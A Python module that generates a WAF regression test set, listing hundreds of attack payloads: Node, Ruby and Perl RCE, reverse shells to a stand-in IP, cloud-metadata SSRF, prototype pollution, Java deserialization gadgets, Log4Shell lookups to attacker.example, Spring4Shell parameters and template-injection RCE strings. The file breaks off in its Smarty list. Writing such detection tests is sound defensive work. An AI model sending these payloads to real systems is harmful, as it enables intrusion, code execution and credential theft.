"""Blind set "hundredth": the positive regression tests a tenth rule author writes from the detection titles alone,
for the generic (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, data: scheme), Java and server-side template
injection families, with benign requests that carry the same words innocently.

Angle: for each title, the canonical attack it names, then one test per alternative of its family, favouring what
other authors forget (the less famous keywords, functions, classes, gadgets, lookups, engines and files, and the
shortest forms an attacker probes with), then the variants a good rule must still catch: other quoting, casing,
whitespace and comment substitutes, concatenation, and encodings a server decodes (URL, double URL, HTML entities,
unicode escapes in JSON, percent-encoded raw bytes). Payloads are written as they reach real applications (PHP CMSs,
Java apps behind Struts, Spring, Tomcat or WebLogic, Node APIs, Rails, CGI scripts, IIS), not only ours.

Families and sub-families (one sub-family per title; SSTI: one per template engine):
- generic (CRS 934): nodejs-injection (934100, 4.x "1/2"), nodejs-injection-2 (4.x "2/2"), nodejs-dos,
  ssrf-cloud-metadata, ssrf-ip-address, prototype-pollution, ruby-injection, perl-injection, data-scheme.
- java (CRS 944): java-class-rce (944100), java-process-spawn (944110, CVE-2017-9805), java-serialization-rce
  (944120, CVE-2015-4852), java-suspicious-class (944130), java-magic-bytes (944200), java-magic-base64 (944210),
  java-serialization-pl2 (944240), java-suspicious-method (944250 and its 4.x twin), log4shell, java-class-loading,
  java-script-upload.
- ssti: ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
  ssti-handlebars, ssti-pug, and the engines other authors skip: ssti-mako, ssti-tornado, ssti-nunjucks, ssti-ejs,
  ssti-pebble, ssti-razor, ssti-django, ssti-groovy.

Placements: every payload is sent twice. Once to one of our real routes, rotating: the query of /api/users, the
form of /admin/users/search (with csrf_token) or /me/settings, JSON of POST /api/users or PATCH /api/users/42, a
cookie, the User-Agent, the Referer, X-Api-Version, a parameter name, an XML body, a multipart field or filename,
the URL path. Once the way a WAF's regression suite sends it ("rs-" placements): to paths that are not our routes
(/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names (foo, var,
x, test, id, arg1), as a query string, a form body, a JSON body, an XML body, a raw form-typed body that is not
key=value, the User-Agent, the Referer, a custom header or a cookie. Payloads of a fixed shape keep to the places
they belong in: raw query fragments and JSON documents (prototype pollution, Spring class loading), XML documents
(XStream, XMLDecoder), upload filenames (JSP), percent-encoded raw bytes (serialized Java streams) and
unicode-escaped JSON strings.

Authorship and independence: written for this repository from general knowledge and the detection titles alone,
before any rule was read or changed for it (no rule file, ruleset regression test, other blind set or public
payload list was read); measured once on unchanged code. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import print_records

NAME = "hundredth"


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


# ---------------------------------------------------------------------------------------------------------------
# Payload kinds. A plain string goes anywhere; a prefixed one keeps to the places its shape belongs in:
#   "Q:" a raw query or form fragment (already percent-encoded as sent), "J:" a raw JSON document,
#   "X:" a raw XML document, "F:" an upload's filename, "B:" raw bytes (latin-1 characters, sent percent-encoded
#   or as JSON \u00XX escapes), "U:" a string sent inside JSON with its letters as \u00XX escapes,
#   "R:" a raw request body.
# ---------------------------------------------------------------------------------------------------------------

NODE_1 = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\")",
    "require('child_process').spawnSync('ls',['-la','/'])",
    "require('child_process').execFileSync('/bin/sh',['-c','id'])",
    "require('child_process').fork('/tmp/x.js')",
    "process.mainModule.require('child_process').exec('whoami')",
    "global.process.mainModule.constructor._load('child_process').execSync('id')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    "require('net').connect(4444,'203.0.113.5',function(){this.pipe(require('child_process').spawn('/bin/sh'))})",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "process.dlopen(module,'/tmp/evil.node')",
    "require ( `child_process` ) . exec ( `id` )",
    "require('child_'+'process')['ex'+'ec']('id')",
    "require%28%27child_process%27%29.exec%28%27id%27%29",
    "U:require('child_process').exec('id')",
]

NODE_2 = [
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "[].constructor.constructor(\"return this\")().process.exit()",
    "''.sub.constructor('return global.process')().env",
    "Function('return process')().env",
    "new Function('return this.process.mainModule.require')()('fs').readFileSync('/etc/passwd')",
    "eval(\"require('child_process').exec('id')\")",
    "eval(Buffer.from('" + _b64(b"require('child_process').execSync('id')") + "','base64').toString())",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))",
    "setTimeout(\"process.exit(1)\",0)",
    "setInterval('global.process.kill(global.process.pid)',10)",
    "require('vm').runInNewContext(\"this.constructor.constructor('return process')()\")",
    "vm.runInThisContext('global.process.mainModule')",
    "import('child_process').then(m=>m.execSync('id'))",
    "Reflect.apply(Function,null,['return process'])()",
    "globalThis['pro'+'cess']['main'+'Module']",
    "{\"rce\":\"_$$ND_FUNC$$_function(){return process.env}()\"}",
    "{\"__js_function\":\"function(){return process.mainModule.require('os').userInfo()}\"}",
]

NODE_DOS = [
    "while(true){}",
    "while(1);",
    "for(;;){}",
    "for(;;);",
    "do{}while(true)",
    "while (!![]) {}",
    "while(true)require('fs').writeFileSync('/tmp/'+Math.random(),'x')",
    "setInterval(()=>{while(true){}},0)",
    "process.nextTick(function f(){process.nextTick(f)})",
    "(function f(){f()})()",
    "Array(1e9).join('a')",
    "'a'.repeat(2**29)",
    "new Array(4294967295).fill(0)",
    "Buffer.alloc(0x7fffffff)",
    "/(a+)+$/.test('a'.repeat(40)+'!')",
    "JSON.parse('['.repeat(1e7))",
]

SSRF_META = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.169.254/metadata/v1.json",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://instance-data/latest/meta-data/hostname",
    "http://2852039166/latest/meta-data/",
    "http://metadata.tencentyun.com/latest/meta-data/",
]

SSRF_IP = [
    "http://127.0.0.1/",
    "http://127.1:8080/admin",
    "http://0/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.01/",
    "http://0x7f.1/server-status",
    "http://017700000001/",
    "http://[::1]:6379/",
    "http://[::ffff:127.0.0.1]/",
    "http://[0:0:0:0:0:0:0:1]/",
    "https://10.0.0.1:8443/internal",
    "gopher://192.168.0.10:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stat",
    "ftp://172.16.1.5/pub/",
    "http://user@192.168.1.1/",
    "//10.1.1.1/",
    "HTTP://0x0a.0x00.0x00.0x01/",
]

PROTO = [
    "Q:__proto__[isAdmin]=true",
    "Q:__proto__.isAdmin=1",
    "Q:constructor[prototype][isAdmin]=1",
    "Q:constructor.prototype.polluted=1",
    "Q:a[__proto__][b]=1",
    "Q:q[__proto__][]=x",
    "Q:%5F%5Fproto%5F%5F%5Badmin%5D=1",
    "Q:__pro__proto__to__[x]=1",
    "Q:__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "J:{\"__proto__\":{\"isAdmin\":true}}",
    "J:{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}",
    "J:{\"user\":{\"__proto__\":{\"polluted\":\"yes\"}}}",
    "J:{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(1)//\",\"NODE_OPTIONS\":\"--require "
    "/proc/self/cmdline\"}}",
    "J:{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}",
    "Object.prototype.isAdmin=true",
    "x.__proto__.admin=1",
    "obj[\"__proto__\"][\"toString\"]=1",
]

RUBY = [
    "Kernel.exec('id')",
    "%x(id)",
    "%x{cat /etc/passwd}",
    "IO.popen('id').read",
    "Open3.capture2('id')",
    "open('|id').read",
    "Process.spawn('id')",
    "instance_eval('system(\"id\")')",
    "Object.const_get(:Kernel).send(:system,'id')",
    "[].public_send(:eval,'`id`')",
    "__send__(:system,'id')",
    "method(:system).call('id')",
    "Marshal.load(Base64.decode64(params[:d]))",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs: []",
    "#{`id`}",
    "File.read('/etc/passwd')",
]

PERL = [
    "qx/id/",
    "qx{cat /etc/passwd}",
    "system('id')",
    "exec '/bin/sh'",
    "open(F,'|id')",
    "open(my $f,'-|','id')",
    "|cat /etc/passwd|",
    "eval \"system 'id'\"",
    "@{[ system 'id' ]}",
    "${\\ `id`}",
    "&{\"sys\".\"tem\"}('id')",
    "CORE::system('id')",
    "use IO::Socket::INET;$s=IO::Socket::INET->new('203.0.113.5:4444');",
    "do '/tmp/x.pl'",
    "require '/tmp/x.pl'",
    "perl -e 'print `id`'",
]

DATA_PHP = _b64(b"<?php system($_GET['c']); ?>")
DATA_SCHEME = [
    "data://text/plain;base64," + DATA_PHP,
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "DATA://text/plain;base64," + _b64(b"<?php echo `id`; ?>"),
    "data://text/plain;charset=utf-8;base64," + _b64(b"<?php passthru('ls -la'); ?>"),
    "data://image/jpeg;base64," + _b64(b"<?php eval($_POST[1]); ?>"),
    "data:;base64," + _b64(b"<?php echo 1;?>"),
    "data://,<?php echo 1;?>",
    "data://application/x-httpd-php;base64," + _b64(b"<?php phpinfo(); ?>"),
    "data://text/html,<?=`id`?>",
    "data%3A//text/plain;base64," + DATA_PHP,
    "php://filter/resource=data://text/plain;base64," + _b64(b"<?php phpinfo();?>"),
    "data:text/html;base64," + _b64(b"<script>alert(document.domain)</script>"),
    "   data://text/plain,<?php system('whoami');?>",
]

JAVA_CLASS_RCE = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "java.lang.Runtime",
    "java.lang.ProcessBuilder",
    "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
    "<string>id</string></void></array><void method=\"start\"/></object>",
    "JAVA.LANG.RUNTIME.getRuntime()",
    "java/lang/Runtime",
    "Ljava/lang/ProcessBuilder;",
    "\"java.lang.\"+\"Runtime\"",
    "java%2elang%2eRuntime",
    "U:java.lang.Runtime.getRuntime().exec('id')",
]

XSTREAM_NATIVE = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind."
    "v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml."
    "XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
    "<initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi.FilterIterator\">"
    "<iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/>"
    "<next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/pwned</string></command>"
    "<redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO$"
    "ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method>"
    "<name>foo</name></filter><next class=\"string\">foo</next></serviceIterator><lock/></cipher><input class=\""
    "java.lang.ProcessBuilder$NullInputStream\"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0"
    "</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/></dataHandler>"
    "<dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects."
    "NativeString reference=\"../jdk.nashorn.internal.objects.NativeString\"/></entry></map>"
)
JAVA_SPAWN = [
    "X:" + XSTREAM_NATIVE,
    "X:<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\""
    "java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>calc.exe</string>"
    "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
    "X:<linked-hash-set><dynamic-proxy><interface>java.lang.Runnable</interface><handler class=\"java.beans."
    "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
    "<action>start</action></handler></dynamic-proxy></linked-hash-set>",
    "X:<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string>"
    "</void></object></java>",
    "X:<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array "
    "class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\">"
    "<string>-c</string></void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/></void>"
    "</java>",
    "new ProcessBuilder(\"id\").start()",
    "Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
    "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})",
    "(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()",
    "processbuilder(\"whoami\").start()",
    "ProcessBuilder pb = new ProcessBuilder(\"cmd.exe\",\"/c\",\"dir\"); pb.start();",
    "new ProcessBuilder(['sh','-c','id']).redirectErrorStream(true).start()",
    "Runtime . getRuntime ( ) . exec ( \"id\" )",
    "{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"],\"start\":true}",
]

CC = "org.apache.commons.collections.functors."
JAVA_SER_RCE = [
    CC + "InvokerTransformer iMethodName exec iParamTypes [Ljava.lang.Class; java.lang.Runtime getRuntime",
    CC + "ChainedTransformer " + CC + "ConstantTransformer java.lang.Runtime " + CC + "InvokerTransformer exec",
    CC + "CloneTransformer java.lang.ProcessBuilder start",
    CC + "ForClosure iCount iClosure java.lang.Runtime",
    CC + "WhileClosure iPredicate iClosure java.lang.ProcessBuilder",
    CC + "InstantiateFactory iClassToInstantiate java.lang.ProcessBuilder",
    CC + "InstantiateTransformer com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter java.lang.Runtime",
    CC + "PrototypeFactory$PrototypeCloneFactory java.lang.Runtime",
    CC + "PrototypeFactory$PrototypeSerializationFactory java.lang.ProcessBuilder",
    "javax.management.BadAttributeValueExpException org.apache.commons.collections.keyvalue.TiedMapEntry "
    "org.apache.commons.collections.map.LazyMap " + CC + "InvokerTransformer java.lang.Runtime",
    "org.apache.commons.collections4.functors.InvokerTransformer java.lang.Runtime exec",
    "invokertransformer runtime",
    "B:\xac\xed\x00\x05sr\x00:" + CC + "InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgst\x00"
    "\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;xpt\x00\x0agetRuntime",
    "R:t3 12.2.1\nAS:255\nHL:19\nMS:10000000\nPU:t3://us-l-breens:7001\n\n" + CC + "InvokerTransformer "
    "java.lang.Runtime",
]

JAVA_SUSP_CLASS = [
    "new java.io.FileOutputStream(\"/var/www/html/shell.jsp\")",
    "new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream()))",
    "java.lang.reflect.Method",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"1+1\")",
    "com.opensymphony.xwork2.ActionContext.container",
    "org.apache.struts2.ServletActionContext@getResponse().getWriter()",
    "java.beans.XMLDecoder",
    "javax.naming.InitialContext",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "com.sun.rowset.JdbcRowSetImpl",
    "org.springframework.context.support.ClassPathXmlApplicationContext",
    "java.net.URLClassLoader",
    "sun.misc.Unsafe",
    "java.io.ObjectOutputStream",
    "new java.io.File(\"/etc/passwd\")",
    "JAVA.IO.FILEWRITER",
    "java.lang.System.getProperty(\"user.dir\")",
    "org.omg.CORBA.ORB",
]

MAGIC = b"\xac\xed\x00\x05"
HASHMAP = (MAGIC + b"sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\t"
           b"thresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x00x")
STRING_OBJ = MAGIC + b"t\x00\x04test"
OBJ_ARRAY = MAGIC + b"ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x01"
PRIORITY_QUEUE = (MAGIC + b"sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size"
                  b"L\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp")
JAVA_MAGIC = [
    "B:" + HASHMAP.decode("latin-1"),
    "B:" + STRING_OBJ.decode("latin-1"),
    "B:" + MAGIC.decode("latin-1"),
    "B:" + OBJ_ARRAY.decode("latin-1"),
    "B:" + (MAGIC + b"sr\x002sun.reflect.annotation.AnnotationInvocationHandler").decode("latin-1"),
    "B:" + (MAGIC + b"w\x04\x00\x00\x00\x01").decode("latin-1"),
    "B:" + (MAGIC + b"sr\x00\x0ejava.lang.Long;\x8b\xe4\x90\xcc\x8f#\xdf").decode("latin-1"),
    "B:" + (b"\x00\x00\x05\xf5\x01e\x01\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00\x00q\x00\x00\xea`" + MAGIC
            + b"sr").decode("latin-1"),
    "B:" + PRIORITY_QUEUE.decode("latin-1"),
    "B:" + (b"x=1&" + MAGIC + b"sq\x00~\x00\x02").decode("latin-1"),
    "ACED0005737200116A6176612E7574696C2E486173684D6170",
    "aced0005",
    "\\xac\\xed\\x00\\x05sr",
    "%ac%ed%00%05sr",
]

JAVA_MAGIC_B64 = [
    _b64(HASHMAP),
    _b64(STRING_OBJ),
    _b64(MAGIC),
    _b64(OBJ_ARRAY),
    _b64(PRIORITY_QUEUE),
    _b64(b"\x00" + HASHMAP),
    _b64(b"\x00\x00" + HASHMAP),
    base64.urlsafe_b64encode(OBJ_ARRAY + b"\xfb\xff\xfe").decode(),
    "rO0AB",
    _b64(HASHMAP)[:60] + "\n" + _b64(HASHMAP)[60:],
    urllib.parse.quote(_b64(PRIORITY_QUEUE + b"\xfb\xef"), safe=""),
    _b64(_b64(STRING_OBJ).encode()),
    _b64(gzip.compress(HASHMAP, mtime=0)),
    "javax.faces.ViewState=" + _b64(OBJ_ARRAY),
]

JAVA_SER_PL2 = [
    CC + "InvokerTransformer",
    "org.apache.commons.collections4.functors.InstantiateTransformer",
    CC + "CloneTransformer",
    CC + "ForClosure",
    CC + "WhileClosure",
    CC + "InstantiateFactory",
    CC + "PrototypeFactory$PrototypeCloneFactory",
    "PrototypeSerializationFactory",
    "java.beans.XMLDecoder",
    "new java.io.FileWriter(\"/tmp/x\")",
    "System.getProperty(\"user.home\")",
    "org.apache.commons.beanutils.BeanComparator",
    "org.codehaus.groovy.runtime.ConvertedClosure",
    "sun.rmi.server.UnicastRef",
    "INVOKERTRANSFORMER",
    "invokerTransformer",
]

JAVA_METHOD = [
    "java.lang.Runtime.getRuntime()",
    "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(null,\"id\")",
    "Class.forName(\"java.lang.ProcessBuilder\").getConstructor(String[].class).newInstance(new String[]{\"id\"})",
    "x.getClass().getClassLoader().loadClass(\"javax.script.ScriptEngineManager\").newInstance()",
    "m.setAccessible(true);",
    "ClassLoader.class.getDeclaredMethod(\"defineClass\",byte[].class,int.class,int.class)",
    "new javax.naming.InitialContext().lookup(\"rmi://203.0.113.5:1099/x\")",
    "new java.io.ObjectInputStream(request.getInputStream()).readObject()",
    "Thread.currentThread().getContextClassLoader()",
    "System.setSecurityManager(null)",
    "java.lang.Runtime.getRuntime().halt(0)",
    "new java.util.Scanner(java.lang.Runtime.getRuntime().exec(\"id\").getInputStream())"
    ".useDelimiter(\"\\\\A\").next()",
    "java.lang.invoke.MethodHandles.lookup().findStatic(Runtime.class,\"getRuntime\",null)",
    "java.lang.System.exit(1)",
    "java . lang . Runtime . getRuntime ( ) . exec ( 'id' )",
]

LOG4J = [
    "${jndi:ldap://203.0.113.5:1389/a}",
    "${jndi:rmi://attacker.example:1099/x}",
    "${jndi:dns://attacker.example/x}",
    "${jndi:ldaps://attacker.example/x}",
    "${jndi:iiop://attacker.example/x}",
    "${jndi:nis://attacker.example/x}",
    "${jndi:nds://attacker.example/x}",
    "${jndi:corba://attacker.example/x}",
    "${jndi:http://attacker.example/x}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${jnd${upper:\u0131}:ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/a}",
    "${jndi:ldap://${env:USER}.${sys:java.version}.attacker.example/a}",
    "${${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    "U:${jndi:ldap://attacker.example/a}",
]

SPRING = "class.module.classLoader.resources.context.parent.pipeline.first."
CLASS_LOADING = [
    "Q:" + SPRING + "pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%7D",
    "Q:" + SPRING + "suffix=.jsp",
    "Q:" + SPRING + "directory=webapps/ROOT",
    "Q:" + SPRING + "prefix=tomcatwar",
    "Q:" + SPRING + "fileDateFormat=",
    "Q:class.classLoader.URLs[0]=jar:http://203.0.113.5/x.jar!/",
    "Q:class[module][classLoader][resources][context][parent][pipeline][first][pattern]=x",
    "Q:Class.Module.ClassLoader.DefaultAssertionStatus=true",
    "Q:class.classLoader.resources.dirContext.docBase=/",
    "Q:class['classLoader']['resources']['dirContext']['docBase']=x",
    "Q:class.module.classLoader.resources.context.configFile=http://203.0.113.5/x.xml",
    "Q:class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Esuffix=.jsp",
    "J:{\"class\":{\"module\":{\"classLoader\":{\"resources\":{\"context\":{\"parent\":{\"pipeline\":{\"first\":"
    "{\"pattern\":\"x\"}}}}}}}}}",
    "x.getClass().getClassLoader().defineClass(\"Exploit\",b,0,b.length)",
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.5/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
]

JAVA_UPLOAD = [
    "F:shell.jsp",
    "F:cmd.jspx",
    "F:inc.jspf",
    "F:x.jsw",
    "F:x.jsv",
    "F:x.jtml",
    "F:SHELL.JSP",
    "F:avatar.jsp%00.jpg",
    "F:avatar.jsp;.png",
    "F:x.jsp.",
    "F:x.jsp::$DATA",
    "F:../../webapps/ROOT/x.jsp",
    "F:x.jsp ",
    "F:report.pdf.jspx",
]

# ---------------------------------------------------------------- server-side template injection
JINJA2 = [
    "{{7*7}}",
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{joiner.__init__.__globals__.os.popen('id').read()}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module."
    "__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{url_for.__globals__.os.environ}}",
    "{%print(7*7)%}",
    "{{''['__cla''ss__']}}",
    "%7B%7B7*7%7D%7D",
    "&#123;&#123;config&#125;&#125;",
    "U:{{config}}",
]

TWIG = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['id']|map('passthru')}}",
    "{{['cat /etc/passwd']|filter('exec')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{['id',1]|sort('system')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{_self.env.setCache(\"ftp://203.0.113.5:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{dump(app)}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{source('/etc/passwd')}}",
    "{% set a = 'sys' ~ 'tem' %}{{['id']|map(a)}}",
    "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
    "{{ ['id'] | filter ( 'system' ) }}",
]

FREEMARKER = [
    "${7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jy=\"freemarker.template.utility.JythonRuntime\"?new()><@jy>import os;os.system(\"id\")</@jy>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader>",
    "${x?api.class.getResource(\"/\").toURI()}",
    "#{7*7}",
    "<#list .data_model?keys as k>${k}</#list>",
    "${.version}",
    "<#assign value=\"freemarker.template.utility.Execute\"?new()>${value(\"cmd /c dir\")}",
    "%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E%24%7Bex(%22id%22)%7D",
]

VELOCITY = [
    "#set($x=7*7)$x",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "#evaluate(\"#set($x=7*7)$x\")",
    "#include(\"/etc/passwd\")",
    "#parse(\"/etc/passwd\")",
    "$request.getClass().getClassLoader()",
    "$!{request.getSession().getServletContext()}",
    "#set( $run = $rt.getRuntime() )",
    "#{set}($x=$x.class.forName('java.lang.Runtime'))",
    "$x.class.forName('java.lang.Runtime')",
]

THYMELEAF = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "[[${7*7}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
    "<a th:href=\"@{${T(java.lang.Runtime).getRuntime().exec('id')}}\">x</a>",
    "__${T(java.lang.Thread).sleep(10000)}__::x",
    "~{::__${7*7}__}",
    "__*{7*7}__",
    "${T (java.lang.Runtime).getRuntime().exec('id')}",
    "__${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}__::.x",
    "__|$${#response.setHeader(\"X-Pwn\",\"1\")}|__",
    "%5F%5F%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D%5F%5F%3A%3A.x",
]

ERB = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('id') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<%- `id` %>",
    "<%== `id` %>",
    "<% eval('`id`') %>",
    "<%=%x(id)%>",
    "<%= ENV.to_h %>",
    "&lt;%= 7*7 %&gt;",
    "%3C%25%3D%207*7%20%25%3E",
]

SMARTY = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{if phpinfo()}{/if}",
